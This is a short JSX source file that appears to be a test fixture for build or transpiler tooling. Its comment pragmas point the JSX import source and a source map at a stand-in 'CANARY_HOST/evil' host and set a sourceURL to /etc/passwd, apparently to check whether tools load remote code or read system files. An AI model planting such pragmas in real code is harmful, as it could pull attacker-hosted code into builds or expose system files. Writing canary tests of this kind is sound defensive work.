/** @jsx PWNED @jsxRuntime automatic @jsxImportSource http://CANARY_HOST/evil @jsxFrag PWNED */
//# sourceMappingURL=http://CANARY_HOST/a.map
//# sourceURL=/etc/passwd
export const A = () => <><p>Shown.</p></>;
